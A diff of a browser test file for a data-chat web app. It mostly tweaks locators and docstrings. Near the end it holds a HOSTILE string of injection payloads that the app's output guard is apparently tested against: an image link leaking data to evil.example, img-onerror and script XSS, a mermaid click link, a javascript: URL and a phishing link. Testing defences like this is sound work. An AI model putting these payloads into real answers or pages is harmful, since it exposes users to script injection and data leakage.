@@ -1,4 +1,4 @@
-"""The chat in a real browser: asking, watching, stopping, coming back, taking away, and attacks on the page."""
+"""The chat in a real browser: asking, watching, stopping, coming back, taking away, attacks on the page."""
 
 from __future__ import annotations
 
@@ -133,7 +133,7 @@ def counted(after: Reply) -> list[Reply]:
 
 def test_a_suggestion_a_follow_up_and_a_chart(page: Page) -> None:
     """From the first screen with one click to a chart; then a follow-up in the same conversation."""
-    expect(page.get_by_text("Demo model", exact=True).first).to_be_visible()
+    expect(page.locator(".st-key-header")).to_contain_text("Demo model")
     page.locator('[class*="st-key-suggestion"] button', has_text="chart").first.click()
     answered(page)
     assert page.get_by_test_id("stPlotlyChart").count() == 1
@@ -224,7 +224,7 @@ def test_a_tab_sees_what_another_one_asked(page: Page) -> None:
 
 
 def test_conversations_are_found_exported_and_deleted(page: Page) -> None:
-    """The list has what this machine keeps; Markdown and JSON are complete; deleted is gone, after reload too."""
+    """Markdown and JSON have queries and answers; a deleted conversation is gone, after a reload too."""
     ask(page, "How many passengers survived?")
     address = page.url
     page.click(".st-key-this-popover button")
@@ -249,7 +249,7 @@ def test_the_list_and_a_vote(page: Page) -> None:
     settle(page)
     page.click(".st-key-this-popover button")
     with page.expect_download() as download:
-        page.get_by_text("Evaluation questions").click()
+        page.get_by_role("button", name="Evaluation questions").click()
     [question] = [json.loads(line) for line in download.value.path().read_text().splitlines()]
     assert (question["vote"], question["comment"], question["rows"]) == ("good", "Right.", [[342]])
     page.keyboard.press("Escape")
@@ -314,7 +314,8 @@ def test_the_guard_can_be_attacked(page: Page) -> None:
 HOSTILE = "\n\n".join(
     (
         "![leak](http://evil.example/leak.png?q=342)",
-        "<img src=http://evil.example/x.png onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>",
+        "<img src=http://evil.example/x.png onerror=\"document.title='hacked'\">"
+        "<script>document.title='hacked'</script>",
         '```mermaid\nflowchart LR\n  a[<img src=http://evil.example/m.png>] --> b\n  click a href "http://evil.example"\n```',
         "[Retry](javascript:document.title='hacked') [here](http://evil.example/phish)",
         ":red[danger] :material/delete: $\\href{http://evil.example}{x}$ :streamlit:",
